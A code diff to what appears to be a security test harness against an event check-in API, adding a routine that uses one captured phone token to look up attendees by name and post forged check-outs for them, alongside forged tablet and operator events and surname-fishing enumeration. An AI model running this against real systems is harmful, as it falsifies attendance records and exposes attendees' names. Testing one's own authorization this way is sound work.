@@ -4,7 +4,8 @@
 
 A tablet of one room and an operator of another branch tell of people of other rooms, in and out, now and a
 while ago, and the tablet of some of its own; a phone with one photographed code and no cookie counts numbers
-and fishes for names. `--wish` says of whom, and with which keys (it is nobody else's to read).
+and fishes for names; another one, which knows names, sends people of that very room away. `--wish` says of
+whom, and with which keys (it is nobody else's to read).
 """
 
 from __future__ import annotations
@@ -33,6 +34,7 @@ VISITS: Final = 12
 """By one code: as often as a dozen phones; each says many things."""
 SAID_A_VISIT: Final = 12
 FISHED: Final = ("ng", "an", "nguyen", "tran thi", "van", "le")
+SENDS_AWAY: Final = "phone that sends away"
 SECONDS_MAX: Final = 600
 _CSRF = re.compile(r'<meta name="csrf-token" content="([^"]+)"')
 
@@ -120,8 +122,28 @@ async def phone(hub: str, token: str, people: list[int], told: Told, until: floa
         await asyncio.sleep(PAUSE_S)
 
 
+async def send_away(hub: str, token: str, names: list[str], told: Told) -> None:
+    """By one code, knowing names of its room: each person's check-out, by a phone that is not theirs."""
+    for start in range(0, len(names), SAID_A_VISIT):
+        async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as http:
+            async with http.post(f"{hub}/api/v1/phone/visit", json={"token": token}) as answer:
+                found = await answer.json()
+            if answer.status != 200:
+                told.note(SENDS_AWAY, found["error"]["code"])
+                continue
+            for name in names[start : start + SAID_A_VISIT]:
+                wish = {"visit": found["visit"], "q": name}
+                async with http.post(f"{hub}/api/v1/phone/search", json=wish) as answer:
+                    said = await answer.json()
+                for one in said.get("people", []):
+                    wish = {"visit": found["visit"], "kind": "out", "attendee": one["id"]}
+                    async with http.post(f"{hub}/api/v1/phone/check-in", json=wish) as answer:
+                        said = await answer.json()
+                    told.note(SENDS_AWAY, "stored" if answer.status == 200 else said["error"]["code"])
+
+
 async def attack(hub: str, seconds: float, wish: dict[str, Any]) -> Told:
-    """All three at once."""
+    """All of them at once."""
     told, until = Told(), time.monotonic() + seconds
     path = f"{hub}/api/v1/tablet/sessions/{wish['session']}/events"
     jar = aiohttp.CookieJar(unsafe=True)
@@ -134,6 +156,7 @@ async def attack(hub: str, seconds: float, wish: dict[str, Any]) -> Told:
         group.create_task(tablet.forge(wish["tablet_others"], wish["tablet_own"], until))
         group.create_task(operator.forge(wish["operator_others"], [], until))
         group.create_task(phone(hub, wish["token"], wish["phone_people"], told, until))
+        group.create_task(send_away(hub, wish["token"], wish["phone_names"], told))
     return told
 
 
